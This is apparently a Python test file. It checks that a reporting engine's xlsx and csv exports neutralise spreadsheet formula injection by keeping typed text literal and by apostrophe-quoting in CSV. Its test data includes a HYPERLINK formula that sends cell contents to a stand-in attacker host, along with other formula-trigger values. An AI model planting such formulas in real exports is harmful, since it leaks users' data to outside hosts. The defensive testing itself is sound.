"""Exports hold text as typed: a cell that looks like a formula stays text in the spreadsheet."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from engine.read.exports.formats import Column, Table, to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2", "-3", "@SUM(A1)", "plain 文本"]
TABLE = Table(title="Nonconformities", columns=[Column("title", "Title")], rows=[{"title": t} for t in HOSTILE])


def test_an_xlsx_cell_that_starts_like_a_formula_is_text_holding_exactly_what_was_typed():
    sheet = load_workbook(io.BytesIO(to_xlsx(TABLE))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}


def test_a_csv_cell_that_starts_like_a_formula_is_quoted_with_an_apostrophe():
    rows = list(csv.reader(io.StringIO(to_csv(TABLE).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE[:4]] + ["plain 文本"]
